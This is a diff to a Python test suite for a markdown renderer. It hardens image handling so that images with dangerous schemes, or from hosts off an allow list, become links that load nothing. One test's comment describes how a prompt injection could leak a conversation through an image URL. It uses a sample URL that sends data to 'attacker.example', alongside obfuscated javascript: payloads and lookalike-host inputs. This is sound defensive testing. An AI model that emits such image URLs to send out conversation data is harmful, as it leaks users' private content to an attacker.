@@ -120,22 +120,18 @@ def test_reference_style_link_to_a_dangerous_scheme_loses_its_href(url: str) -> 
         "jav&#x61;script:alert(1)",
     ],
 )
-def test_markdown_image_with_a_dangerous_scheme_loses_its_src(url: str) -> None:
-    html = render_markdown(f"![a picture]({url})")
+def test_markdown_image_with_a_dangerous_scheme_is_a_link_without_its_url(url: str) -> None:
+    html = render_markdown(f"![a picture]({url})", frozenset({"example.com"}))
 
-    assert tags(html) == [
-        ("p", {}),
-        ("img", {"alt": "a picture", "referrerpolicy": "no-referrer", "loading": "lazy"}),
-    ]
+    assert tags(html) == [("p", {}), ("a", {"rel": LINK_REL})]
+    assert "a picture" in html and srcs(html) == []
 
 
-def test_reference_style_image_with_a_data_url_loses_its_src() -> None:
+def test_reference_style_image_with_a_data_url_loses_its_url() -> None:
     html = render_markdown("![chart][c]\n\n[c]: data:image/png;base64,iVBORw0KGgo=")
 
-    assert srcs(html) == []
-    assert ("img", {"alt": "chart", "referrerpolicy": "no-referrer", "loading": "lazy"}) in (
-        tags(html)
-    )
+    assert srcs(html) == [] and "data:" not in html
+    assert ("a", {"rel": LINK_REL}) in tags(html)
 
 
 def test_autolink_to_javascript_is_text_not_a_link() -> None:
@@ -169,8 +165,45 @@ def test_mailto_link_is_kept() -> None:
     assert hrefs(html) == ["mailto:team@example.com"]
 
 
-def test_web_image_keeps_its_src_and_sends_no_referrer() -> None:
-    html = render_markdown("![logo](https://example.com/logo.png)")
+def test_an_image_from_another_host_is_a_link_that_loads_nothing() -> None:
+    # How a prompt injection would leak the conversation: the browser fetching this URL.
+    url = "https://attacker.example/p.png?d=the%20conversation"
+    html = render_markdown(f"![logo]({url}) and ![]({url})")
+
+    assert srcs(html) == [] and "<img" not in html
+    assert tags(html) == [
+        ("p", {}),
+        ("a", {"href": url, "rel": LINK_REL}),
+        ("a", {"href": url, "rel": LINK_REL}),
+    ]
+    assert ">logo</a>" in html
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "http://example.com/logo.png",  # allowed host, but not over https
+        "https://example.com.attacker.net/logo.png",
+        "https://notexample.com/logo.png",
+        "/static/logo.png",
+    ],
+)
+def test_only_https_images_of_an_allowed_host_load(url: str) -> None:
+    html = render_markdown(f"![logo]({url})", frozenset({"example.com", ".cdn.example.org"}))
+
+    assert "<img" not in html
+
+
+def test_a_subdomain_rule_allows_the_hosts_below_it() -> None:
+    html = render_markdown(
+        "![a](https://img.cdn.example.org/a.png)", frozenset({".cdn.example.org"})
+    )
+
+    assert srcs(html) == ["https://img.cdn.example.org/a.png"]
+
+
+def test_web_image_of_an_allowed_host_keeps_its_src_and_sends_no_referrer() -> None:
+    html = render_markdown("![logo](https://example.com/logo.png)", frozenset({"example.com"}))
 
     assert tags(html) == [
         ("p", {}),
